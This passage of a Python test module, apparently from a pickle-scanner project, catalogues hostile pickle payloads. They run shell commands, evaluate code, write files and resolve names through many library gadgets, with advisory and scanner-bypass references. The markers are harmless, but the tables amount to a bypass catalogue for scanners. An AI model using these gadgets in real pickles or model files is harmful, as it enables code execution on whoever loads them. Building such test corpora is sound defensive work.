"""Hostile pickle programs. Each row: id, rows of the threat research, the program over the path of the marker.

`MKDIR` and `Asm` stand for any payload where the form is what matters; the tables of gadgets are about names.
"""

from __future__ import annotations

import base64
import marshal
import struct
from collections.abc import Callable, Iterator
from typing import Any

from assembler import Asm, Call, Do, Get, Let, New, Ref, dtype, op, program

from hostile import BAD, HOSTILE, REFUSED, UNREAD, Case, stream

MKDIR = Ref("os:mkdir")
SPACE = "types:SimpleNamespace"
NAMESPACE = "argparse:Namespace"


def sh(m: str) -> str:
    return f"touch {m}"


def py(m: str) -> str:
    return f"open('{m}','w')"


def a() -> Asm:
    return Asm()


def evil(m: str) -> bytes:
    """The plainest payload: what the cases of containers hide."""
    return program(Call("os:mkdir", m))


def text_evil(m: str, *, module: str = "os", name: str = "mkdir") -> bytes:
    """The same at protocol 0, without its STOP."""
    return f"c{module}\n{name}\n(V{m}\ntR".encode("latin-1")


def each(*values: Any) -> Do:
    """Values one after the other, of which the last stands."""

    def emit(asm: Asm) -> None:
        for value in values[:-1]:
            asm.push(value).op("POP")
        asm.push(values[-1])

    return Do(emit)


# --- A: against an allow-list ----------------------------------------------------------------------------------

Row = tuple[str, str, Callable[[str], Any]]

SHELLS: tuple[Row, ...] = (
    ("os.system", "A1, E.1", lambda m: Call("os:system", sh(m))),
    ("posix.system", "A1, E.1", lambda m: Call("posix:system", sh(m))),
    ("os.popen", "A1, E.1", lambda m: Call("os:popen", sh(m))),
    ("os.spawnvp", "A1, E.1", lambda m: Call("os:spawnvp", 0, "touch", ["touch", m])),
    ("os.spawnlp", "A1, E.1", lambda m: Call("os:spawnlp", 0, "touch", "touch", m)),
    ("os.execvp", "A1, E.1", lambda m: Call("os:execvp", "touch", ["touch", m])),
    ("os.posix_spawnp", "A1, E.1", lambda m: Call("os:posix_spawnp", "touch", ["touch", m], {})),
    ("subprocess.Popen", "A1, E.1", lambda m: Call("subprocess:Popen", ["touch", m])),
    ("subprocess.call", "A1, E.1", lambda m: Call("subprocess:call", ["touch", m])),
    ("subprocess.run", "A1, E.1", lambda m: Call("subprocess:run", ["touch", m])),
    ("subprocess.check_call", "A1, E.1", lambda m: Call("subprocess:check_call", ["touch", m])),
    ("subprocess.check_output", "A1, E.1", lambda m: Call("subprocess:check_output", ["touch", m])),
    ("subprocess.getoutput", "A1, E.1", lambda m: Call("subprocess:getoutput", sh(m))),
    ("subprocess.getstatusoutput", "A1, E.1", lambda m: Call("subprocess:getstatusoutput", sh(m))),
    ("pty.spawn", "A1, E.1", lambda m: Call("pty:spawn", ["touch", m])),
    ("uuid._get_command_stdout", "E.1 picklescan", lambda m: Call("uuid:_get_command_stdout", "touch", m)),
    ("_osx_support._read_output", "E.1 picklescan", lambda m: Call("_osx_support:_read_output", sh(m))),
    ("_osx_support._find_build_tool", "E.1", lambda m: Call("_osx_support:_find_build_tool", f"x; {sh(m)};")),
    ("_aix_support._read_cmd_output", "E.1 picklescan", lambda m: Call("_aix_support:_read_cmd_output", sh(m))),
    ("_bootsubprocess.check_output", "E.1", lambda m: Call("_bootsubprocess:check_output", ["touch", m.rpartition("/")[2]])),
    ("_pyrepl.pager.pipe_pager", "E.1", lambda m: Call("_pyrepl.pager:pipe_pager", "x", sh(m))),
    ("imaplib.IMAP4_stream", "E.1 fickling", lambda m: Call("imaplib:IMAP4_stream", sh(m))),
    (
        "webbrowser.GenericBrowser.open",
        "E.1, A3",
        lambda m: Call("webbrowser:GenericBrowser.open", Call("webbrowser:GenericBrowser", ["touch", "%s"]), m),
    ),
    ("mailcap.findmatch", "E.1", lambda m: Call("mailcap:findmatch", {"a/b": [{"view": "x", "test": sh(m)}]}, "a/b")),
    (
        "pipes.Template.copy",
        "E.1, A3",
        lambda m: Call("pipes:Template.copy", Call("pipes:Template", state={"steps": [(sh(m), "--")], "debugging": 0}), "/dev/null", "/dev/null"),
    ),
    ("multiprocessing.util.spawnv_passfds", "E.1", lambda m: Call("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", ["touch", m], ())),
    ("test.support.script_helper", "E.1 picklescan", lambda m: Call("test.support.script_helper:assert_python_ok", "-c", py(m))),
    ("asyncio.create_subprocess_shell", "E.1", lambda m: Call("asyncio:run", Call("asyncio:create_subprocess_shell", sh(m)))),
    (
        "asyncio _UnixSubprocessTransport._start",
        "E.1 CVE-2025-10157, A3",
        lambda m: Call("asyncio.unix_events:_UnixSubprocessTransport._start", Call(SPACE), ["touch", m], False, None, None, None, 0),
    ),
    ("pydoc.pipepager", "E.1 picklescan", lambda m: Call("pydoc:pipepager", "x", sh(m))),
    ("pydoc.tempfilepager", "E.1", lambda m: Call("pydoc:tempfilepager", "x", f"{sh(m)}; :")),
    ("ctypes.CDLL", "E.1 fickling", lambda m: Call(Call("builtins:getattr", Call("ctypes:CDLL", None), "system"), sh(m).encode())),
    ("ctypes.PyDLL", "E.1 fickling", lambda m: Call(Call("builtins:getattr", Call("ctypes:PyDLL", None), "mkdir"), m.encode(), 511)),
    ("distutils.spawn.spawn", "E.1 picklescan", lambda m: Call("distutils.spawn:spawn", ["touch", m])),
    ("sklearn.utils._testing.check_output", "A5, E.2", lambda m: Call("sklearn.utils._testing:check_output", ["touch", m])),
)

EVALUATORS: tuple[Row, ...] = (
    ("builtins.eval", "A1", lambda m: Call("builtins:eval", py(m))),
    ("builtins.exec", "A1", lambda m: Call("builtins:exec", py(m))),
    ("builtins.exec of bytes", "A1", lambda m: Call("builtins:exec", py(m).encode())),
    ("builtins.exec of compile", "A1", lambda m: Call("builtins:exec", Call("builtins:compile", py(m), "x", "exec"))),
    ("FunctionType of compile", "A1, B12", lambda m: Call(Call("types:FunctionType", Call("builtins:compile", py(m), "x", "exec"), {}))),
    (
        "FunctionType of marshal",
        "E.1 picklescan GHSA-9m3x",
        lambda m: Call(Call("types:FunctionType", Call("marshal:loads", marshal.dumps(compile(py(m), "x", "exec"))), {})),
    ),
    ("runpy._run_code", "E.1", lambda m: Call("runpy:_run_code", py(m), {})),
    ("runpy._run_module_code", "E.1", lambda m: Call("runpy:_run_module_code", py(m), None, "x")),
    ("timeit.timeit", "E.1 picklescan", lambda m: Call("timeit:timeit", py(m), "pass", Ref("time:perf_counter"), 1)),
    ("timeit.repeat", "E.1", lambda m: Call("timeit:repeat", "pass", py(m), Ref("time:perf_counter"), 1, 1)),
    ("timeit.main", "E.1", lambda m: Call("timeit:main", ["-n1", "-r1", py(m)])),
    ("timeit.Timer.timeit", "E.1, A3", lambda m: Call("timeit:Timer.timeit", Call("timeit:Timer", py(m)), 1)),
    ("cProfile.run", "E.1 picklescan", lambda m: Call("cProfile:run", py(m))),
    ("cProfile.runctx", "E.1 picklescan", lambda m: Call("cProfile:runctx", py(m), {}, {})),
    ("profile.run", "E.1 picklescan", lambda m: Call("profile:run", py(m))),
    ("profile.Profile.runctx", "E.1 picklescan, A3", lambda m: Call("profile:Profile.runctx", Call("profile:Profile"), py(m), {}, {})),
    (
        "code.InteractiveInterpreter.runcode",
        "E.1 picklescan, A3",
        lambda m: Call("code:InteractiveInterpreter.runcode", Call("code:InteractiveInterpreter"), py(m)),
    ),
    ("code.InteractiveConsole.push", "E.1, A3", lambda m: Call("code:InteractiveConsole.push", Call("code:InteractiveConsole"), py(m))),
    ("bdb.Bdb.run", "E.1 picklescan, A3", lambda m: Call("bdb:Bdb.run", Call("bdb:Bdb", state={"trace_dispatch": None}), py(m), {})),
    ("trace.Trace.run", "E.1 picklescan, A3", lambda m: Call("trace:Trace.run", Call("trace:Trace", 0, 0), py(m))),
    ("trace.Trace.runctx", "E.1 picklescan, A3", lambda m: Call("trace:Trace.runctx", Call("trace:Trace", 0, 0), py(m), {}, {})),
    ("doctest.run_docstring_examples", "E.1", lambda m: Call("doctest:run_docstring_examples", f">>> {py(m)}\n", {})),
    ("doctest.debug_script", "E.1 picklescan", lambda m: Call("doctest:debug_script", py(m), True, {})),
    ("idlelib.calltip.get_entity", "E.1 picklescan", lambda m: Call("idlelib.calltip:get_entity", py(m))),
    ("idlelib.autocomplete.get_entity", "E.1 picklescan, A3", lambda m: Call("idlelib.autocomplete:AutoComplete.get_entity", None, py(m))),
    (
        "idlelib.run.Executive.runcode",
        "E.1 picklescan, A3",
        lambda m: Call("idlelib.run:Executive.runcode", Call(SPACE, state={"locals": {}}), py(m)),
    ),
    (
        "lib2to3 make_label",
        "E.1 picklescan, A3",
        lambda m: Call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, Call("lib2to3.pgen2.grammar:Grammar"), f"'' or {py(m)}"),
    ),
    (
        "lib2to3 Grammar.loads",
        "E.1 picklescan, A3",
        lambda m: Call("lib2to3.pgen2.grammar:Grammar.loads", Call("lib2to3.pgen2.grammar:Grammar"), evil(m)),
    ),
    ("typing.get_type_hints", "E.1", lambda m: Call("typing:get_type_hints", Call(SPACE, state={"__annotations__": {"x": py(m)}}))),
    ("typing._eval_type", "E.1", lambda m: Call("typing:_eval_type", Call("typing:ForwardRef", py(m)), {}, {})),
    (
        "inspect.get_annotations",
        "E.1, B14",
        lambda m: [
            built(Ref(NAMESPACE), (None, {"__annotations__": {"x": py(m)}})),
            Call(keywords(Ref("inspect:get_annotations"), Ref(NAMESPACE), eval_str=True)),
        ],
    ),
    ("dataclasses._create_fn", "E.1", lambda m: Call("dataclasses:_create_fn", "f", [f"x={py(m)}"], ["pass"])),
    (
        "logging.config.dictConfig",
        "E.1",
        lambda m: Call("logging.config:dictConfig", {"version": 1, "handlers": {"h": {"()": "os.mkdir", "path": m}}, "root": {"handlers": ["h"]}}),
    ),
    ("numpy.f2py.crackfortran.myeval", "E.1 picklescan GHSA-r8g5", lambda m: Call("numpy.f2py.crackfortran:myeval", py(m), {}, {})),
    ("numpy.f2py.crackfortran.getlincoef", "E.1 picklescan", lambda m: Call("numpy.f2py.crackfortran:getlincoef", py(m), {})),
    ("numpy.f2py.crackfortran._eval_scalar", "E.1 picklescan", lambda m: Call("numpy.f2py.crackfortran:_eval_scalar", py(m), {})),
    ("numpy.testing.measure", "E.1", lambda m: Call("numpy.testing:measure", py(m))),
    ("numpy.testing runstring", "E.1 modelscan #28", lambda m: Call("numpy.testing._private.utils:runstring", py(m), {})),
    (
        "scipy distribution by its state",
        "A17, E.1, B17",
        lambda m: New("scipy.stats._continuous_distns:norm_gen", state={"_parse_arg_template": py(m)}),
    ),
)

WRITERS: tuple[Row, ...] = (
    ("os.mkdir", "A1", lambda m: Call("os:mkdir", m)),
    ("posix.mkdir", "A1", lambda m: Call("posix:mkdir", m)),
    ("os.makedirs", "A1", lambda m: Call("os:makedirs", m)),
    ("os.open", "A1", lambda m: Call("os:open", m, 66)),
    ("os.mknod", "A1", lambda m: Call("os:mknod", m)),
    ("os.mkfifo", "A1", lambda m: Call("os:mkfifo", m)),
    ("os.symlink", "A1", lambda m: Call("os:symlink", "/", m)),
    ("builtins.open", "A1", lambda m: Call("builtins:open", m, "w")),
    ("io.open", "E.1", lambda m: Call("io:open", m, "w")),
    ("_io.open", "E.1", lambda m: Call("_io:open", m, "w")),
    ("io.FileIO", "E.1 picklescan", lambda m: Call("io:FileIO", m, "w")),
    ("_io.FileIO", "E.1 picklescan", lambda m: Call("_io:FileIO", m, "w")),
    ("_pyio.open", "E.1", lambda m: Call("_pyio:open", m, "w")),
    ("codecs.open", "E.1", lambda m: Call("codecs:open", m, "w")),
    ("pathlib.Path.touch", "E.1, A3", lambda m: Call("pathlib:Path.touch", Call("pathlib:Path", m))),
    ("pathlib.Path.write_text", "E.1, A3", lambda m: Call("pathlib:Path.write_text", Call("pathlib:Path", m), "x")),
    ("pathlib.Path.mkdir by getattr", "E.1, B12", lambda m: Call(Call("builtins:getattr", Call("pathlib:Path", m), "mkdir"))),
    ("shutil.copyfile", "E.1", lambda m: Call("shutil:copyfile", "/dev/null", m)),
    ("shutil.copytree", "E.1", lambda m: Call("shutil:copytree", "/proc/self/task", m, False, Call("shutil:ignore_patterns", "*"))),
    ("logging.FileHandler", "E.1 picklescan GHSA-m7j5", lambda m: Call("logging:FileHandler", m)),
    ("logging RotatingFileHandler", "E.1", lambda m: Call("logging.handlers:RotatingFileHandler", m)),
    ("logging WatchedFileHandler", "E.1", lambda m: Call("logging.handlers:WatchedFileHandler", m)),
    ("gzip.GzipFile", "E.1", lambda m: Call("gzip:GzipFile", m, "w")),
    ("gzip.open", "E.1", lambda m: Call("gzip:open", m, "w")),
    ("bz2.BZ2File", "E.1", lambda m: Call("bz2:BZ2File", m, "w")),
    ("bz2._builtin_open", "A5, E.2", lambda m: Call("bz2:_builtin_open", m, "w")),
    ("lzma.LZMAFile", "E.1", lambda m: Call("lzma:LZMAFile", m, "w")),
    ("zipfile.ZipFile", "E.1", lambda m: Call("zipfile:ZipFile", m, "w")),
    ("tarfile.open", "E.1", lambda m: Call("tarfile:open", m, "w")),
    ("tarfile.bltn_open", "A5, E.2", lambda m: Call("tarfile:bltn_open", m, "w")),
    ("mailbox.mbox", "E.1", lambda m: Call("mailbox:mbox", m)),
    ("mailbox.Maildir", "E.1", lambda m: Call("mailbox:Maildir", m)),
    ("sqlite3.connect", "E.1", lambda m: Call("sqlite3:connect", m)),
    ("argparse.FileType", "E.1, B12", lambda m: Call(Call("argparse:FileType", "w"), m)),
    ("shelve.open", "E.1", lambda m: Call("shelve:open", m)),
    ("dbm.dumb.open", "E.1", lambda m: Call("dbm.dumb:open", m)),
    ("wave.open", "E.1", lambda m: Call("wave:open", m, "wb")),
    ("py_compile.compile", "E.1", lambda m: Call("py_compile:compile", "/dev/null", m)),
    ("importlib _write_atomic", "E.1", lambda m: Call("_frozen_importlib_external:_write_atomic", m, b"x")),
    ("distutils.file_util.write_file", "E.1 picklescan", lambda m: Call("distutils.file_util:write_file", m, ["x"])),
    ("venv.create", "E.1", lambda m: Call("venv:create", m)),
    ("urllib.request.urlretrieve", "E.1", lambda m: Call("urllib.request:urlretrieve", "file:///dev/null", m)),
    ("socketserver.UnixStreamServer", "E.1", lambda m: Call("socketserver:UnixStreamServer", m, None)),
    ("tracemalloc.Snapshot.dump", "E.1, A3", lambda m: Call("tracemalloc:Snapshot.dump", New("tracemalloc:Snapshot"), m)),
    (
        "copyreg._reconstructor of a file handler",
        "A15, B15",
        lambda m: Call("copyreg:_reconstructor", Ref("logging:FileHandler"), Ref("logging:FileHandler"), m),
    ),
    ("numpy.memmap", "E.1", lambda m: Call("numpy:memmap", m, "u1", "w+", 0, (1,))),
    ("numpy.memmap by NEWOBJ", "E.1, B13", lambda m: New("numpy:memmap", m, "u1", "w+", 0, (1,))),
    ("numpy.lib.format.open_memmap", "E.1", lambda m: Call("numpy.lib.format:open_memmap", m, "w+", "f8", (1,))),
    ("numpy.save", "E.1", lambda m: Call("numpy:save", m, [1])),
    ("numpy.savetxt", "E.1", lambda m: Call("numpy:savetxt", m, [1.0])),
    ("numpy.ndarray.tofile", "E.1, A3", lambda m: Call("numpy:ndarray.tofile", Call("numpy:zeros", 1), m)),
    ("numpy.ndarray.dump", "E.1, A3", lambda m: Call("numpy:ndarray.dump", Call("numpy:zeros", 1), m)),
    ("numpy.lib._datasource", "A5, E.2", lambda m: Call("numpy.lib._datasource:_open", m, "w")),
    ("joblib.dump", "E.1", lambda m: Call("joblib:dump", [1], m)),
    ("joblib.Memory", "E.1", lambda m: Call("joblib:Memory", m)),
    ("joblib.logger.PrintTime", "E.1", lambda m: Call("joblib.logger:PrintTime", m)),
    ("sklearn.datasets._lfw.makedirs", "A5, E.2", lambda m: Call("sklearn.datasets._lfw:makedirs", m)),
    ("sklearn.datasets.dump_svmlight_file", "E.1", lambda m: Call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1.0], m)),
    ("scipy.io.wavfile.write", "E.1", lambda m: Call("scipy.io.wavfile:write", m, 8000, Call("numpy:zeros", 4))),
    ("scipy.io.savemat", "E.1", lambda m: Call("scipy.io:savemat", m, {})),
    ("pandas.to_pickle", "E.1", lambda m: Call("pandas:to_pickle", [1], m)),
    ("pandas.DataFrame.to_csv", "E.1, A3", lambda m: Call("pandas:DataFrame.to_csv", Call("pandas:DataFrame"), m)),
    (
        "pandas _new_Index",
        "A15",
        lambda m: Call("pandas.core.indexes.base:_new_Index", Ref("numpy:memmap"), {"filename": m, "mode": "w+", "shape": (1,)}),
    ),
)


def keywords(target: Any, *args: Any, **given: Any) -> Do:
    """A `functools.partial` made by NEWOBJ_EX, which takes keywords."""
    return Do(lambda asm: asm.push(Ref("functools:partial")).push((target, *args)).push(given).op("NEWOBJ_EX"))


# What calls its argument: none of these names is a danger by itself.
CALLERS: tuple[Row, ...] = (
    ("functools.partial", "A15, B12", lambda m: Call(Call("functools:partial", MKDIR, m))),
    ("functools.reduce", "E.1", lambda m: Call("functools:reduce", MKDIR, [m, 511])),
    ("functools.lru_cache", "E.1, B12", lambda m: Call(Call("functools:lru_cache", MKDIR), m)),
    ("functools.singledispatch", "E.1, B12", lambda m: Call(Call("functools:singledispatch", MKDIR), m)),
    ("operator.call", "E.1", lambda m: Call("operator:call", MKDIR, m)),
    ("operator.methodcaller", "E.1, A5", lambda m: Call(Call("operator:methodcaller", "mkdir", m), Ref("shutil:os"))),
    ("operator.attrgetter", "E.1, A5", lambda m: Call(Call(Call("operator:attrgetter", "mkdir"), Ref("random:_os")), m)),
    ("types.MethodType", "E.1, B12", lambda m: Call(Call("types:MethodType", MKDIR, m))),
    ("sklearn MethodType", "A5, E.2", lambda m: Call(Call("sklearn.utils._available_if:MethodType", MKDIR, m))),
    ("types.GenericAlias", "E.1, B12", lambda m: Call(Call("types:GenericAlias", MKDIR, Ref("builtins:int")), m)),
    ("property.__get__", "E.1, A3", lambda m: Call("builtins:property.__get__", Call("builtins:property", MKDIR), m)),
    ("classmethod.__get__", "E.1, A3", lambda m: Call(Call("builtins:classmethod.__get__", Call("builtins:classmethod", MKDIR), m, m))),
    ("weakref.finalize", "A18, E.1", lambda m: Call("weakref:finalize", set(), MKDIR, m)),
    ("atexit.register", "A18", lambda m: Call("atexit:register", MKDIR, m)),
    (
        "contextlib.ExitStack",
        "E.1, A3",
        lambda m: [
            Let("s", Call("contextlib:ExitStack")),
            Call("contextlib:ExitStack.callback", Get("s"), MKDIR, m),
            Call("contextlib:ExitStack.close", Get("s")),
        ],
    ),
    ("threading.Thread.run", "E.1, A3", lambda m: Call("threading:Thread.run", Call("threading:Thread", None, MKDIR, None, (m,)))),
    ("threading.Timer", "A18, A3", lambda m: Call("threading:Timer.start", Call("threading:Timer", 0.01, MKDIR, [m]))),
    (
        "concurrent.futures",
        "E.1, A3",
        lambda m: Call("concurrent.futures:ThreadPoolExecutor.submit", Call("concurrent.futures:ThreadPoolExecutor"), MKDIR, m),
    ),
    ("multiprocessing.pool.mapstar", "E.1", lambda m: Call("multiprocessing.pool:mapstar", (MKDIR, [m]))),
    ("heapq.nsmallest", "E.1", lambda m: Call("heapq:nsmallest", 1, [m], MKDIR)),
    ("copy._reconstruct", "E.1", lambda m: Call("copy:_reconstruct", None, None, MKDIR, (m,))),
    ("unittest.mock.Mock", "E.1, B12", lambda m: Call(Call("unittest.mock:Mock", None, MKDIR), m)),
    ("importlib _call_with_frames_removed", "E.1", lambda m: Call("importlib._bootstrap:_call_with_frames_removed", MKDIR, m)),
    ("itertools.accumulate", "E.1", lambda m: Call("builtins:list", Call("itertools:accumulate", [m, 511], MKDIR))),
    ("ctypes callback", "E.1", lambda m: Call(Call(Call("ctypes:CFUNCTYPE", None, Ref("ctypes:py_object")), MKDIR), m)),
    ("numpy.vectorize", "E.1, B12", lambda m: Call(Call("numpy:vectorize", MKDIR), m)),
    ("numpy.frompyfunc", "E.1, B12", lambda m: Call(Call("numpy:frompyfunc", MKDIR, 1, 1), m)),
    ("numpy.apply_along_axis", "E.1", lambda m: Call("numpy:apply_along_axis", Call("functools:partial", Ref("numpy:save"), m), 0, [[0]])),
    ("numpy.testing.assert_raises", "E.1", lambda m: Call("numpy.testing:assert_raises", Ref("builtins:Exception"), MKDIR, m)),
    ("numpy __randomstate_ctor", "A15, E.1", lambda m: Call("numpy.random._pickle:__randomstate_ctor", m, MKDIR)),
    ("numpy __generator_ctor", "A15, E.1", lambda m: Call("numpy.random._pickle:__generator_ctor", m, MKDIR)),
    ("sklearn _FuncWrapper", "E.1, B12", lambda m: Call(Call("sklearn.utils.parallel:_FuncWrapper", MKDIR), m)),
    (
        "sklearn FunctionTransformer",
        "E.1, A3",
        lambda m: Call("sklearn.preprocessing:FunctionTransformer.transform", Call("sklearn.preprocessing:FunctionTransformer", MKDIR), m),
    ),
    (
        "joblib BatchedCalls",
        "E.1, B12",
        lambda m: Call(Call("joblib.parallel:BatchedCalls", [(MKDIR, (m,), {})], (Call("joblib.parallel:SequentialBackend"), 1))),
    ),
    ("pandas.Series.apply", "E.1, A3", lambda m: Call("pandas:Series.apply", Call("pandas:Series", [m]), MKDIR)),
    ("scipy.integrate.quad", "E.1", lambda m: Call("scipy.integrate:quad", Call("functools:partial", Ref("numpy:save"), m), 0, 1)),
    ("scipy.optimize.brentq", "E.1", lambda m: Call("scipy.optimize:brentq", Call("functools:partial", Ref("numpy:save"), m), -1, 1)),
)

CONSUMERS = (
    "builtins:list",
    "builtins:tuple",
    "builtins:set",
    "builtins:frozenset",
    "builtins:bytes",
    "builtins:bytearray",
    "builtins:sum",
    "builtins:any",
    "builtins:all",
    "builtins:sorted",
    "builtins:max",
    "builtins:min",
    "builtins:next",
    "collections:deque",
    "collections:Counter",
    "collections:OrderedDict.fromkeys",
    "math:prod",
    "math:fsum",
    "statistics:mean",
)

# What turns text into a name, behind every filter of names.
RESOLVERS: tuple[Row, ...] = (
    ("__import__ and getattr", "E.1, B12", lambda m: Call(Call("builtins:getattr", Call("builtins:__import__", "os"), "mkdir"), m)),
    ("importlib.import_module", "E.1", lambda m: Call(Call("builtins:getattr", Call("importlib:import_module", "os"), "mkdir"), m)),
    ("importlib.__import__", "E.1", lambda m: Call(Call("builtins:getattr", Call("importlib:__import__", "os"), "mkdir"), m)),
    ("pkgutil.resolve_name", "E.1 picklescan GHSA-vvpj-8cmc-gx39", lambda m: Call(Call("pkgutil:resolve_name", "os:mkdir"), m)),
    ("pydoc.locate", "E.1 picklescan", lambda m: Call(Call("pydoc:locate", "os.mkdir"), m)),
    ("logging.config._resolve", "E.1", lambda m: Call(Call("logging.config:_resolve", "os.mkdir"), m)),
    ("xmlrpc resolve_dotted_attribute", "E.1", lambda m: Call(Call("xmlrpc.server:resolve_dotted_attribute", Ref("random:_os"), "mkdir"), m)),
    ("numpy.core._ufunc_reconstruct", "A16, E.1", lambda m: Call(Call("numpy.core:_ufunc_reconstruct", "os", "mkdir"), m)),
    ("numpy._core._ufunc_reconstruct", "A16, E.1", lambda m: Call(Call("numpy._core:_ufunc_reconstruct", "os", "mkdir"), m)),
    ("scipy unpickle_function", "A16, E.1", lambda m: Call(Call("scipy._lib._uarray._backend:unpickle_function", "os", "mkdir", None), m)),
    (
        "cloudpickle.subimport",
        "E.1 picklescan",
        lambda m: Call(Call("builtins:getattr", Call("cloudpickle.cloudpickle:subimport", "os"), "mkdir"), m),
    ),
    ("joblib os by getattr", "A5", lambda m: Call(Call("builtins:getattr", Ref("joblib:os"), "mkdir"), m)),
    ("sklearn os by getattr", "A5", lambda m: Call(Call("builtins:getattr", Ref("sklearn:os"), "mkdir"), m)),
    ("getattr on builtins", "E.1, A4", lambda m: Call(Call("builtins:getattr", Ref("collections:abc.sys.modules"), "get"), "os")),
    ("sys.modules.get by a dotted name", "A3, A13", lambda m: Call(Call("builtins:getattr", Call("sys:modules.get", "posix"), "mkdir"), m)),
)

LOADERS: tuple[Row, ...] = (
    ("pickle.loads", "E.1, A21", lambda m: Call("pickle:loads", evil(m))),
    ("_pickle.loads", "E.1, A21", lambda m: Call("_pickle:loads", evil(m))),
    ("pickle._loads", "E.1, A21 GHSA-wccx-j62j-r448", lambda m: Call("pickle:_loads", evil(m))),
    ("pickle.load of BytesIO", "E.1, A21", lambda m: Call("pickle:load", Call("io:BytesIO", evil(m)))),
    (
        "pickle.Unpickler.load",
        "E.1, A21 GHSA-fphw-536r-4p88, A3",
        lambda m: Call("pickle:Unpickler.load", Call("pickle:Unpickler", Call("io:BytesIO", evil(m)))),
    ),
    ("pickle._Unpickler.load", "E.1, A21, A3", lambda m: Call("pickle:_Unpickler.load", Call("pickle:_Unpickler", Call("io:BytesIO", evil(m))))),
    ("shelve.Shelf", "E.1, A3", lambda m: Call("shelve:Shelf.__getitem__", Call("shelve:Shelf", {b"k": evil(m)}), "k")),
    ("multiprocessing ForkingPickler", "E.1, A21", lambda m: Call("multiprocessing.reduction:ForkingPickler.loads", evil(m))),
    ("loky loads", "A5, A21", lambda m: Call("joblib.externals.loky.cloudpickle_wrapper:loads", evil(m))),
    ("numpy.load", "E.1", lambda m: Call("numpy:load", Call("io:BytesIO", npy_of(m)), None, True)),
    ("numpy _pickle", "E.1, A5", lambda m: Call("numpy.lib._npyio_impl:pickle.loads", evil(m))),
    ("joblib.load", "E.1", lambda m: Call("joblib:load", Call("io:BytesIO", evil(m)))),
    ("pandas.read_pickle", "E.1", lambda m: Call("pandas:read_pickle", Call("io:BytesIO", evil(m)))),
    ("base64 and pickle.loads", "E.1, A21", lambda m: Call("pickle:loads", Call("base64:b64decode", base64.b64encode(evil(m)).decode()))),
    ("zlib and pickle.loads", "E.1, A21, D14", lambda m: Call("pickle:loads", Call("zlib:decompress", deflated(evil(m))))),
)


def npy_of(m: str) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n" + evil(m)


def deflated(data: bytes) -> bytes:
    import zlib

    return zlib.compress(data)


DOTTED: tuple[Row, ...] = (
    ("random _os.mkdir", "A3 GHSA-5j3x-jp52-966f", lambda m: Call("random:_os.mkdir", m)),
    ("shutil os.system", "A3 nltk GHSA-4489", lambda m: Call("shutil:os.system", sh(m))),
    ("sklearn os.mkdir", "A3, A5", lambda m: Call("sklearn.datasets._base:os.mkdir", m)),
    ("joblib os.mkdir", "A3, A5", lambda m: Call("joblib:os.mkdir", m)),
    ("email os.mkdir", "A3", lambda m: Call("email.utils:os.mkdir", m)),
    ("functools partial.__call__", "A3", lambda m: Call("functools:partial.__call__", Call("functools:partial", MKDIR, m))),
    ("type.__call__", "A3, A4", lambda m: Call("builtins:type.__call__", Ref("logging:FileHandler"), m)),
    ("collections __builtins__ get", "A4 modelscan #89", lambda m: Call(Call("collections:__builtins__.get", "eval"), py(m))),
    ("numpy __builtins__ get", "A4", lambda m: Call(Call("numpy:__builtins__.get", "eval"), py(m))),
    ("numpy function __globals__", "A4 modelscan #330", lambda m: Call(Call("numpy:matrix_power.__globals__.get", "__builtins__"))),
    ("os.makedirs by __globals__", "A4", lambda m: Call(Call("os:walk.__globals__.get", "mkdir"), m)),
    ("tree __builtins__ eval", "A4, E.2", lambda m: Call("sklearn.tree._tree:__builtins__.eval", py(m))),
    ("tree __builtins__ by getattr", "A4, E.2", lambda m: Call(Call("builtins:getattr", Ref("sklearn.tree._tree:__builtins__"), "eval"), py(m))),
    ("__loader__", "A4", lambda m: Call(Call("builtins:getattr", Call("sklearn:__loader__.load_module", "sklearn"), "os"))),
)

WITHOUT_MARKER = {"pandas _new_Index", "getattr on builtins", "numpy function __globals__", "__loader__"}

# Old names, which CPython maps below protocol 3. The programs are written by hand, at protocol 0 and 2.
PYTHON_2 = (
    ("__builtin__.eval", "__builtin__", "eval", py, HOSTILE),
    ("__builtin__.open", "__builtin__", "file", None, BAD),
    ("commands.getoutput", "commands", "getoutput", sh, BAD),
    ("commands.getstatusoutput", "commands", "getstatusoutput", sh, BAD),
    ("cPickle.loads", "cPickle", "_loads", None, BAD),
    ("urllib.urlretrieve", "urllib", "urlretrieve", None, BAD),
    ("dumbdbm.open", "dumbdbm", "open", str, BAD),
    ("anydbm.open", "anydbm", "open", None, BAD),
)

# --- the same payload in every form ----------------------------------------------------------------------------


def called(asm: Asm, m: str) -> Asm:
    return asm.push((m,)).op("REDUCE")


def forms() -> Iterator[Case]:
    rows: list[tuple[str, str, Callable[[str], Any]]] = [
        ("REDUCE by STACK_GLOBAL", "A1", evil),
        ("REDUCE by GLOBAL", "A1", lambda m: called(a().op("GLOBAL", operand="os:mkdir"), m)),
        ("REDUCE at protocol 0", "A1", lambda m: text_evil(m) + b"."),
        ("REDUCE at protocol 1", "A1", lambda m: b"cos\nmkdir\n(X" + struct.pack("<I", len(m)) + m.encode() + b"tR."),
        ("REDUCE at protocol 2", "A1", lambda m: b"\x80\x02cos\nmkdir\nX" + struct.pack("<I", len(m)) + m.encode() + b"\x85R."),
        ("REDUCE at protocol 3", "A1", lambda m: b"\x80\x03cos\nmkdir\nX" + struct.pack("<I", len(m)) + m.encode() + b"\x85R."),
        ("OBJ", "A1, B16", lambda m: a().op("MARK").push(MKDIR).text(m).op("OBJ")),
        ("OBJ and POP", "A1, B16 GHSA-mxhj-88fx-4pcv", lambda m: a().op("MARK").push(MKDIR).text(m).op("OBJ", "POP", "NONE")),
        ("INST", "A1, B16 picklescan #21", lambda m: a().op("MARK").text(m).op("INST", operand="os:mkdir")),
        ("INST at protocol 0", "A1, B16", lambda m: b"(V" + m.encode() + b"\nios\nmkdir\n."),
        ("INST of a dotted name", "A3, B16", lambda m: a().op("MARK").text(m).op("INST", operand="random:_os.mkdir")),
        ("GLOBAL of a dotted name", "A3", lambda m: called(a().op("GLOBAL", operand="random:_os.mkdir"), m)),
        ("NEWOBJ that consumes a map", "A1, B13", lambda m: New("builtins:bytes", Call("builtins:map", MKDIR, [m]))),
